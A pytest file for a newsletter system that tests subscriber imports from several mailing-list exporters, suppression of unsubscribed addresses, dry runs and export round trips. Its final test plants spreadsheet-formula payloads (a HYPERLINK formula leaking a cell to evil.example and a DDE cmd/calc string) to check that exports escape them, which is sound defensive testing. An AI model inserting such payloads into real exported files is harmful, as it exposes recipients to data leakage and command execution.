"""Importing the lists publishers bring, in each exporter's shape, and exporting them back."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime
from pathlib import Path

import pytest
from sqlalchemy import select
from sqlalchemy.orm import Session, sessionmaker

from digest.models import (
    Community,
    ConsentAction,
    ConsentEvent,
    Subscriber,
    Subscription,
    SubscriptionStatus,
    Suppression,
    SuppressionReason,
)
from digest.readers.import_formats import FORMATS, decode, detect_format, read_csv
from digest.readers.imports import ImportReport, import_subscribers
from digest.readers.list_export import export_list
from tests.support.web import START, populate

LISTS = Path(__file__).parent / "lists"


@pytest.fixture
def sessions(committed: sessionmaker[Session]) -> sessionmaker[Session]:
    populate(committed)
    return committed


def load(sessions: sessionmaker[Session], name: str, dry_run: bool = False) -> ImportReport:
    text, _ = decode((LISTS / name).read_bytes())
    _, rows = read_csv(text)
    with sessions() as session:
        transaction = session.begin()
        report = import_subscribers(
            session,
            rows,
            source=f"moved from {name}",
            community=None,
            newsletters=["morning"],
            now=START,
        )
        if dry_run:
            transaction.rollback()
        else:
            transaction.commit()
    return report


def reasons(report: ImportReport) -> list[tuple[int, str]]:
    return [(line, reason) for line, _, reason in report.skipped]


def readers(sessions: sessionmaker[Session]) -> dict[str, tuple[str, str | None, list[str] | None]]:
    with sessions() as session:
        rows = session.execute(
            select(Subscriber.email, Subscriber.name, Subscription.interests, Community.slug)
            .join(Subscription)
            .join(Community, Community.id == Subscriber.community_id)
            .where(Subscription.status == SubscriptionStatus.CONFIRMED)
        ).all()
        return {str(e): (str(town), name, interests) for e, name, interests, town in rows}


def consent_dates(sessions: sessionmaker[Session]) -> dict[str, datetime]:
    with sessions() as session:
        rows = session.execute(
            select(Subscriber.email, ConsentEvent.occurred_at)
            .join(ConsentEvent, ConsentEvent.subscriber_id == Subscriber.id)
            .where(ConsentEvent.action == ConsentAction.IMPORT)
        ).all()
        return {str(email): when for email, when in rows}


def suppressions(sessions: sessionmaker[Session]) -> dict[str, SuppressionReason]:
    with sessions() as session:
        return {str(s.email): s.reason for s in session.scalars(select(Suppression))}


def test_formats_are_told_apart_by_their_headers() -> None:
    shapes = {}
    for name in ("mailchimp_subscribed", "substack", "listmonk", "campaign_monitor", "plain"):
        headers, _ = read_csv(decode((LISTS / f"{name}.csv").read_bytes())[0])
        shapes[name] = detect_format(headers)
    assert shapes == {
        "mailchimp_subscribed": "mailchimp",
        "substack": "substack",
        "listmonk": "listmonk",
        "campaign_monitor": "campaign-monitor",
        "plain": "csv",
    }


def test_a_mailchimp_export_keeps_towns_interests_and_confirmation_dates(
    sessions: sessionmaker[Session],
) -> None:
    report = load(sessions, "mailchimp_subscribed.csv")
    assert (report.rows, report.added, report.confirmed, report.suppressed) == (5, 3, 3, 0)
    assert reasons(report)[0][0] == 5
    assert "email address" in reasons(report)[0][1]
    assert reasons(report)[1] == (6, "unknown town 'Ogdenville'")
    assert readers(sessions) == {
        "ada@example.org": ("springfield", "Ada Lovelace", ["news", "sports"]),
        "bob@example.org": ("shelbyville", "Bob Marley", None),
        "carol@example.org": ("shelbyville", "Carol", None),  # her town came from a tag
    }
    dates = consent_dates(sessions)
    assert dates["ada@example.org"] == datetime(2025, 3, 1, 8, 5, tzinfo=UTC)  # CONFIRM_TIME
    assert dates["carol@example.org"] == datetime(2025, 5, 3, 10, 0, tzinfo=UTC)  # OPTIN_TIME


def test_unsubscribed_and_cleaned_rows_become_suppressions_and_are_never_imported(
    sessions: sessionmaker[Session],
) -> None:
    assert load(sessions, "mailchimp_unsubscribed.csv").suppressed == 1
    assert load(sessions, "mailchimp_cleaned.csv").suppressed == 1
    assert suppressions(sessions) == {
        "frank@example.org": SuppressionReason.MANUAL,
        "gone@example.org": SuppressionReason.HARD_BOUNCE,
    }
    # The same addresses in a later list of subscribers are still never mailed.
    path = LISTS / "mailchimp_unsubscribed.csv"
    text = decode(path.read_bytes())[0].replace("2025-06-01 12:00:00", "")
    _, rows = read_csv(text)
    with sessions() as session, session.begin():
        report = import_subscribers(
            session, rows, source="again", community=None, newsletters=["morning"], now=START
        )
    assert reasons(report) == [(2, "suppressed: never mailed again")]
    assert readers(sessions) == {}


def test_substack_listmonk_campaign_monitor_and_plain_lists(
    sessions: sessionmaker[Session],
) -> None:
    substack = load(sessions, "substack.csv")
    # Substack names no town: its readers need --community; without one each row says so.
    assert (substack.added, substack.suppressed) == (0, 1)
    assert [line for line, _ in reasons(substack)] == [2, 3]
    assert reasons(substack)[0][1].startswith("no town")
    listmonk = load(sessions, "listmonk.csv")
    assert (listmonk.added, listmonk.suppressed) == (1, 1)
    assert reasons(listmonk) == [(4, "attributes is not a JSON object")]
    monitor = load(sessions, "campaign_monitor.csv")
    plain = load(sessions, "plain.csv")
    assert (monitor.added, plain.added) == (2, 1)
    assert reasons(plain)[0][0] == 3
    assert reasons(plain)[0][1].startswith("unknown interest")
    assert reasons(plain)[1] == (4, "not confirmed at the source: no consent")
    found = readers(sessions)
    assert found["kim@example.org"] == ("shelbyville", "Kim Lee", ["sports"])
    assert found["noel@example.org"] == ("springfield", "Noël François", None)  # cp1252
    assert found["pat@example.org"] == ("springfield", "Pat Smith", ["news"])
    assert "hana@example.org" not in found
    assert suppressions(sessions) == {
        "judy@example.org": SuppressionReason.MANUAL,
        "leo@example.org": SuppressionReason.MANUAL,
    }
    assert consent_dates(sessions)["olga@example.org"] == datetime(2025, 8, 2, 7, tzinfo=UTC)


def test_a_substack_list_with_a_default_town(sessions: sessionmaker[Session]) -> None:
    text, _ = decode((LISTS / "substack.csv").read_bytes())
    with sessions() as session, session.begin():
        report = import_subscribers(
            session,
            read_csv(text)[1],
            source="substack",
            community="springfield",
            newsletters=["morning"],
            now=START,
        )
    assert (report.added, report.confirmed, report.suppressed) == (2, 2, 1)
    assert consent_dates(sessions)["hana@example.org"] == datetime(2025, 2, 14, 10, tzinfo=UTC)


def test_a_dry_run_reports_the_same_and_changes_nothing(sessions: sessionmaker[Session]) -> None:
    dry = load(sessions, "mailchimp_subscribed.csv", dry_run=True)
    assert readers(sessions) == {}
    real = load(sessions, "mailchimp_subscribed.csv")
    assert (dry.added, dry.confirmed, dry.skipped) == (real.added, real.confirmed, real.skipped)
    again = load(sessions, "mailchimp_subscribed.csv")
    assert (again.added, again.confirmed, again.unchanged) == (0, 0, 3)


@pytest.mark.parametrize("shape", FORMATS)
def test_every_export_shape_imports_back_the_same_readers(
    sessions: sessionmaker[Session], committed: sessionmaker[Session], shape: str
) -> None:
    load(sessions, "mailchimp_subscribed.csv")
    with sessions() as session:
        headers, rows = export_list(session, "morning", shape)
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=headers)
    writer.writeheader()
    writer.writerows(rows)
    exported_headers, back = read_csv(out.getvalue())
    assert detect_format(exported_headers) == shape
    before = readers(sessions)
    with sessions() as session, session.begin():
        session.execute(Subscription.__table__.delete())
        session.execute(ConsentEvent.__table__.delete())
        session.execute(Subscriber.__table__.delete())
    with sessions() as session, session.begin():
        report = import_subscribers(
            session, back, source="round trip", community=None, newsletters=["morning"], now=START
        )
    assert report.skipped == []
    assert readers(sessions) == before


@pytest.mark.parametrize("shape", FORMATS)
def test_an_export_never_hands_a_spreadsheet_a_formula(
    sessions: sessionmaker[Session], shape: str
) -> None:
    load(sessions, "mailchimp_subscribed.csv")
    hostile = ['=HYPERLINK("https://evil.example/?x="&A1)', "+1+cmd|' /C calc'!A0", "@SUM(A1)"]
    with sessions() as session, session.begin():
        subscribers = session.scalars(select(Subscriber).order_by(Subscriber.id)).all()
        for subscriber, name in zip(subscribers, hostile, strict=False):
            subscriber.name = name
    with sessions() as session:
        _, rows = export_list(session, "morning", shape)
    cells = [value for row in rows for value in row.values()]
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert any(cell.startswith("'=HYPERLINK(") for cell in cells)
